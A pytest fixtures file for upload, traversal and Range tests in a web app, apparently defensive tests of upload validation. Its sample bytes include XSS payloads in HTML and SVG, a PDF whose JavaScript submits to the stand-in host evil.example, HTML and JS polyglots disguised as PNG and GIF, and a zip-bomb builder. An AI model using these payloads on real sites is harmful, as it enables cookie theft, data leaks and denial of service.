"""Files for the upload, traversal and Range tests: sample bytes of every kind an attacker sends, a storage of its
own per test (so that what is on disk can be counted), and one download of each kind (an attachment, a
certificate PDF, a static file, a file of a licensed bundle) with a client that may fetch it."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest

from qtp.certificates.models import Certificate
from qtp.certificates.serials import new_serial
from qtp.core.storage import LocalStorage
from qtp.worksheets import attachments
from qtp.worksheets.models import Worksheet
from tests.helpers import login
from tests.integration.licensing.test_downloads import built, bundle_dir, holder, licence, link_of  # noqa: F401
from tests.integration.worksheets.conftest import real_team  # noqa: F401

SIZE = 5000
STATIC_FILE = "css/app.css"
BUNDLE_FILE = "manual/faculty-manual.pdf"
BUNDLE_FILE_SIZE = 200_000  # as tests.factories.write_bundle writes it

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
PNG = PNG_MAGIC + b"\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" + b"IEND"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PDF = b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>fetch('/admin/users').then(r => r.text())</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
PDF_WITH_JAVASCRIPT = (
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n"
    b"3 0 obj <</S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('https://evil.example'\\))>> endobj\n"
    b"trailer <</Root 1 0 R>>\n%%EOF\n"
)
PNG_HTML_POLYGLOT = PNG_MAGIC + b"<html><script>alert(document.domain)</script></html>"  # a PNG by its first bytes
GIF_JS_POLYGLOT = b"GIF89a/*\x00\x00*/=1;alert(document.domain)//"
HTML_WITH_PDF_INSIDE = b"<html><script>alert(1)</script>%PDF-1.4</html>"  # magic bytes not at the start
BOM_PDF = b"\xef\xbb\xbf%PDF-1.4\n"


def zip_bomb() -> bytes:
    """A ZIP archive of 20 MB of zeros in about 20 KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.csv", b"0" * (20 * 1024 * 1024))
    return buffer.getvalue()


@pytest.fixture
def files(app, tmp_path, monkeypatch):
    """A storage of its own for the test, inside a folder that holds nothing else."""
    local = LocalStorage(tmp_path / "area" / "storage")
    monkeypatch.setitem(app.extensions, "qtp_storage", local)
    return local


def everything_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.fixture
def sheet(session, real_team):  # noqa: F811
    wtype = real_team.types["process-map"]
    worksheet = Worksheet(team_id=real_team.id, type_id=wtype.id, type=wtype, record_no=1, data={})
    session.add(worksheet)
    session.commit()
    return worksheet


def signed_in_as(app, user):
    client = app.test_client()
    assert login(client, user.email).status_code == 302
    return client


@pytest.fixture
def attachment_download(app, session, real_team, sheet, files):  # noqa: F811
    """(client signed in as the team's leader, URL, bytes) of a PNG attachment of SIZE bytes."""
    content = PNG_MAGIC + os.urandom(SIZE - len(PNG_MAGIC))
    with app.test_request_context():
        added = attachments.add_attachment(session, real_team.people["leader"], sheet, io.BytesIO(content), "a.png")
        session.commit()
    url = f"/teams/{real_team.id}/attachments/{added.public_id}"
    return signed_in_as(app, real_team.people["leader"]), url, content


@pytest.fixture
def certificate(app, session, real_team, files):  # noqa: F811
    """A certificate of the team's leader, its PDF (SIZE bytes) in the storage."""
    leader = real_team.people["leader"]
    content = b"%PDF-1.7\n" + os.urandom(SIZE - 9)
    stored = files.put(os.urandom(16).hex(), content)
    certificate = Certificate(
        serial=new_serial(),
        user_id=leader.id,
        cohort_id=real_team.cohort_id,
        team_id=real_team.id,
        recipient_name=leader.name,
        locale="en",
        storage_key=stored.key,
        sha256=stored.sha256,
    )
    session.add(certificate)
    session.commit()
    certificate.content = content
    return certificate


@pytest.fixture
def certificate_download(app, real_team, certificate):  # noqa: F811
    """(client of the recipient, URL, bytes) of the certificate's PDF."""
    client = signed_in_as(app, real_team.people["leader"])
    return client, f"/certificates/{certificate.id}/download", certificate.content


@pytest.fixture
def static_download(app):
    return app.test_client(), f"/static/{STATIC_FILE}", (Path(app.static_folder) / STATIC_FILE).read_bytes()


@pytest.fixture
def bundle_download(app, session, licence, holder, built):  # noqa: F811
    """(client of a seat holder, link, bytes) of one file of a built bundle."""
    client = signed_in_as(app, holder)
    link = link_of(app, holder, licence, "es", BUNDLE_FILE)
    content = client.get(link).data
    assert len(content) == BUNDLE_FILE_SIZE
    return client, link, content
